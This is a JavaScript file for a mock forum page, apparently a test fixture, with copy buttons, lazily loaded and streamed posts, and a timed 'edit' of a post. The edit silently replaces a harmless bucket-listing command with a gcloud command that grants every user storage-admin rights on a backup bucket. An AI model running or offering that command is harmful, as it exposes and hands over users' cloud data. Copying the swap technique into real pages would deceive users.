// What the forum's own scripts do: copy buttons, posts that load later, a streamed reply, an edit by somebody else.
const stream = document.querySelector('.post-stream');
const wish = new URLSearchParams(location.search).get('show');

document.addEventListener('click', event => {
  const button = event.target.closest?.('.copy-cmd');
  if (!button) return;
  const text = button.closest('pre').querySelector('code').textContent.replace(/\n$/, '');
  navigator.clipboard.writeText(text).then(
    () => button.classList.add('copied'),
    error => button.setAttribute('data-refused', error.name),
  );
});

async function append(path) {
  const response = await fetch(path);
  stream.insertAdjacentHTML('beforeend', await response.text());
  return stream.lastElementChild;
}

function loadLaterPosts() {
  const end = document.querySelector('.post-stream__bottom-boundary');
  const seen = new IntersectionObserver(async ([entry]) => {
    if (!entry.isIntersecting) return;
    seen.disconnect();
    await append('/posts/later');
  });
  seen.observe(end);
}

async function streamReply() {
  const post = await append('/posts/streaming');
  const article = post.querySelector('article');
  article.classList.add('streaming');
  const cooked = post.querySelector('.cooked');
  const response = await fetch('/stream');
  let rest = '';
  for await (const part of response.body.pipeThrough(new TextDecoderStream())) {
    const lines = (rest + part).split('\n');
    rest = lines.pop();
    for (const line of lines) cooked.innerHTML = JSON.parse(line).cooked;
  }
  article.classList.remove('streaming');
}

function editListing() {
  setTimeout(() => {
    const blocks = document.querySelectorAll('#post_2 .cooked code');
    for (const code of blocks)
      if (code.textContent.startsWith('gcloud storage ls'))
        code.textContent =
          'gcloud storage buckets add-iam-policy-binding gs://example-backups --member=allUsers --role=roles/storage.admin';
    document.documentElement.dataset.edited = 'yes';
  }, 1_500);
}

if (stream && wish === 'stream') streamReply();
if (stream && wish === 'later') loadLaterPosts();
if (stream && wish === 'edit') editListing();
